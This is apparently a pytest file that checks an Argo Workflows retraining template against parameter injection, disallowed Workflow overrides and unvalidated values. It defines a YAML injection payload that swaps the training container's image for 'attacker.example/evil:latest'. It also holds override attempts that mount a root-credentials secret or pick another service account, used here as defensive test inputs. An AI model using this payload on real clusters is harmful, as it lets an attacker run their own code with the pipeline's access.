"""Who may create a Workflow cannot choose what it runs: Argo runs only WorkflowTemplates
(`workflowRestrictions.templateReferencing: Secure`), a submitted Workflow may set only Argo's allow-listed
fields, and every retrain parameter is an enum, which `argo submit` checks before it creates the Workflow. The
controller does not check the enum: on the real node (v4.0.7) a Workflow created directly through the API with a
newline in `epochs` ran its first step (docs/deploy.md), so that first step is `check-parameters`, which refuses
a value outside its enum before a later step writes the TFJob manifest (`make e2e` shows it).
The submission checks below follow argo-workflows v4.0.6: `workflow/util/merge.go` (`allowedUserOverrideFields`,
`ValidateUserOverrides`) and `workflow/validate/validate.go` (`validateArgumentsValues`: a parameter with an
`enum` must have a value equal, as a string, to one of it)."""

from __future__ import annotations

import json
import re

import pytest
import yaml

from common.errors import UserError
from infra.argo import RESTRICTION
from infra.retraining import PARAM_LABEL
from tests.helpers import argo

# The WorkflowSpec fields (as JSON names) a Workflow may set under Strict/Secure (merge.go's allow-list).
ALLOWED_OVERRIDES = {
    "arguments", "entrypoint", "shutdown", "suspend", "activeDeadlineSeconds", "priority", "ttlStrategy", "podGC",
    "volumeClaimGC", "archiveLogs", "workflowMetadata", "workflowTemplateRef", "metrics", "artifactGC",
}  # fmt: skip
# Closes the quoted `--epochs` value, sets the container's image again (the later key wins), and turns the
# command's remaining items into `args`.
INJECTION = "1'\n            image: attacker.example/evil:latest\n            args:\n            - 'x"


class Refused(Exception):
    pass


def submit(template: dict, workflow_spec: dict) -> dict:
    """What Argo makes of `argo submit --from workflowtemplate/...`: refuses a Workflow that sets fields outside
    the allow-list, or a parameter value outside its enum; otherwise returns the parameters' values."""
    extra = sorted(set(workflow_spec) - ALLOWED_OVERRIDES)
    if extra:
        raise Refused(f"fields {extra} are not permitted when using workflowTemplateRef")
    given = {p["name"]: p["value"] for p in (workflow_spec.get("arguments") or {}).get("parameters", [])}
    values = {}
    for p in template["spec"]["arguments"]["parameters"]:
        value = given.get(p["name"], p.get("value"))
        if "enum" in p and value not in p["enum"]:
            raise Refused(f"spec.arguments.{p['name']}.value should be present in spec.arguments.{p['name']}.enum list")
        values[p["name"]] = value
    return values


def _train_manifest(template: dict) -> str:
    (train,) = [t for t in template["spec"]["templates"] if t["name"] == "train"]
    return train["resource"]["manifest"]


def _fill(text: str, values: dict) -> str:
    """Argo's substitution of the workflow's parameters (simple and expression tags, tests/helpers/argo.py)."""
    return argo.substitute(text, {f"workflow.parameters.{k}": v for k, v in values.items()} | {"workflow.name": "w"})


def manifest_with(template: dict, values: dict) -> dict:
    """The train step's TFJob after Argo's substitution of the parameters (a failed expression stays as text)."""
    return yaml.safe_load(_fill(_train_manifest(template), values))


# What the API server accepts as a label value (apimachinery `validation.IsValidLabelValue`).
LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")


def refused_labels(manifest: dict) -> list[str]:
    """The manifest's labels the API server refuses (it then creates nothing), as `key=value`."""
    return [f"{k}={v}" for k, v in manifest["metadata"]["labels"].items()
            if len(v) > 63 or not LABEL_VALUE.fullmatch(v)]


def meant(template: dict, values: dict) -> dict:
    """The TFJob with each value put in as one whole string where its tag stands: what a value means."""

    def walk(obj):
        if isinstance(obj, dict):
            return {k: walk(v) for k, v in obj.items()}
        if isinstance(obj, list):
            return [walk(v) for v in obj]
        return _fill(obj, values) if isinstance(obj, str) else obj

    return walk(yaml.safe_load(_train_manifest(template)))


def as_text(manifest: str) -> str:
    """The manifest as it would be with simple tags, each value pasted in as text into the `train` flags (what
    the template avoids; the parameters' labels came with the expressions)."""
    manifest = re.sub(rf"(?m)^ *{re.escape(PARAM_LABEL)}[\w-]+: .*\n", "", manifest)
    return re.sub(r"\{\{=as(?:Int|Float)\(workflow\.parameters\[`([\w-]+)`\]\)\}\}", r"{{workflow.parameters.\1}}",
                  manifest)


def test_the_controller_runs_only_unchanged_templates(renders):
    for name in ("dev", "prod"):
        values = next(
            c for c in renders.variant(name).by_type("kubernetes:helm.sh/v4:Chart") if c["name"] == "argo-workflows"
        )["inputs"]["values"]
        assert values["controller"]["workflowRestrictions"] == {"templateReferencing": "Secure"} == {
            "templateReferencing": RESTRICTION
        }


def test_the_stacks_own_workflow_references_its_template(stack):
    (wf,) = stack.find("Workflow")
    assert set(wf["spec"]) <= ALLOWED_OVERRIDES
    assert stack.one("WorkflowTemplate", wf["spec"]["workflowTemplateRef"]["name"])


def test_every_retrain_parameter_is_an_enum_of_plain_numbers(stack):
    template = stack.one("WorkflowTemplate", "retrain-mnist")
    params = template["spec"]["arguments"]["parameters"]
    assert [p["name"] for p in params] == ["epochs", "batch-size", "learning-rate"]
    for p in params:
        assert p["value"] in p["enum"], p
        assert all(re.fullmatch(r"[0-9]+(\.[0-9]+)?", v) for v in p["enum"]), p


def test_an_injected_parameter_is_refused_and_no_allowed_value_changes_the_manifest(stack):
    template = stack.one("WorkflowTemplate", "retrain-mnist")
    ref = {"workflowTemplateRef": {"name": "retrain-mnist"}}
    # `argo submit --from workflowtemplate/retrain-mnist -p epochs=$'1\n        image: ...'`
    with pytest.raises(Refused, match="epochs.value should be present"):
        submit(template, {**ref, "arguments": {"parameters": [{"name": "epochs", "value": INJECTION}]}})
    # Pasted in as text, the same value would have replaced the TFJob's image; the template converts each value
    # to a number instead: this one fails, its expression stays as text, and the API server refuses the TFJob.
    injected = {"epochs": INJECTION, "batch-size": "64", "learning-rate": "0.003"}
    pasted = yaml.safe_load(_fill(as_text(_train_manifest(template)), injected))
    chief = pasted["spec"]["tfReplicaSpecs"]["Chief"]["template"]["spec"]
    assert chief["containers"][0]["image"] == "attacker.example/evil:latest"
    made = manifest_with(template, injected)
    assert "attacker" not in json.dumps(made)
    assert refused_labels(made) == [f"{PARAM_LABEL}epochs={{{{=asInt(workflow.parameters[`epochs`])}}}}"]
    # Picking the account or a volume in the Workflow itself is refused too.
    with pytest.raises(Refused, match="serviceAccountName"):
        submit(template, {**ref, "serviceAccountName": "serving"})
    with pytest.raises(Refused, match="volumes"):
        submit(template, {**ref, "volumes": [{"name": "x", "secret": {"secretName": "minio-root"}}]})
    # Every value the enums allow means exactly itself in the manifest.
    for p in template["spec"]["arguments"]["parameters"]:
        for v in p["enum"]:
            values = submit(template, {**ref, "arguments": {"parameters": [{"name": p["name"], "value": v}]}})
            made = manifest_with(template, values)
            assert made == meant(template, values) and not refused_labels(made), (p["name"], v)


def _controller_substitutes(args: list[str], values: dict) -> list[str]:
    """Argo's substitution into a container's arguments: each placeholder replaced by the whole value."""
    return [_fill(a, values) for a in args]


def test_the_first_step_checks_every_parameter_against_its_enum(stack):
    """The controller does not check the enum of a Workflow created through the API, so the template's first
    step runs `check-parameters` with each value and its enum, and every later step waits for it."""
    from trainer.checkparams import check

    template = stack.one("WorkflowTemplate", "retrain-mnist")
    spec = template["spec"]
    (entry,) = [t for t in spec["templates"] if t["name"] == spec["entrypoint"]]
    assert [[s["template"] for s in group] for group in entry["steps"]][0] == ["check-parameters"]
    assert len(entry["steps"][0]) == 1  # nothing runs beside it
    (step,) = [t for t in spec["templates"] if t["name"] == "check-parameters"]
    args = step["container"]["args"]
    assert step["container"]["command"] == ["python", "-m", "trainer", "check-parameters"]
    triples = [tuple(args[i + 1:i + 4]) for i in range(0, len(args), 4)]
    params = spec["arguments"]["parameters"]
    assert [(n, c.split(",")) for n, _, c in triples] == [(p["name"], p["enum"]) for p in params]
    defaults = {p["name"]: p["value"] for p in params}
    filled = _controller_substitutes(args, defaults)
    assert check([tuple(filled[i + 1:i + 4]) for i in range(0, len(filled), 4)]) == defaults
    # The injected value reaches the check whole, and is refused there before the TFJob step exists.
    filled = _controller_substitutes(args, {**defaults, "epochs": INJECTION})
    with pytest.raises(UserError, match="parameter epochs is"):
        check([tuple(filled[i + 1:i + 4]) for i in range(0, len(filled), 4)])


def test_a_workflow_that_starts_at_the_train_step_cannot_inject_either(stack):
    """A Workflow may set its own `entrypoint` (it is on Argo's allow-list), so it can start at `train` and skip
    `check-parameters`: every value still reaches the manifest only as the number an expression makes of it,
    and nothing else does (no simple tag of a parameter is left in the manifest)."""
    template = stack.one("WorkflowTemplate", "retrain-mnist")
    ref = {"workflowTemplateRef": {"name": "retrain-mnist"}, "entrypoint": "train"}
    manifest = _train_manifest(template)
    assert "{{workflow.parameters." not in manifest
    assert re.findall(r"\{\{=(\w+)\(workflow\.parameters\[`([\w-]+)`\]\)\}\}", manifest)[:3] == [
        ("asInt", "epochs"), ("asInt", "batch-size"), ("asFloat", "learning-rate")]
    for name in ("epochs", "batch-size", "learning-rate"):
        for bad in (INJECTION, "1\nimage: x", "1 ", "0x10", "NaN", "1e400", ""):
            values = {p["name"]: p["value"] for p in template["spec"]["arguments"]["parameters"]} | {name: bad}
            made = manifest_with(template, values)
            assert [r.partition("=")[0] for r in refused_labels(made)] == [f"{PARAM_LABEL}{name}"], (name, bad)
            assert bad not in json.dumps(made) or bad in ("1 ", ""), (name, bad)
    # The submission itself passes Argo's checks but for the enum, which only `argo submit` applies.
    with pytest.raises(Refused):
        submit(template, {**ref, "arguments": {"parameters": [{"name": "epochs", "value": INJECTION}]}})
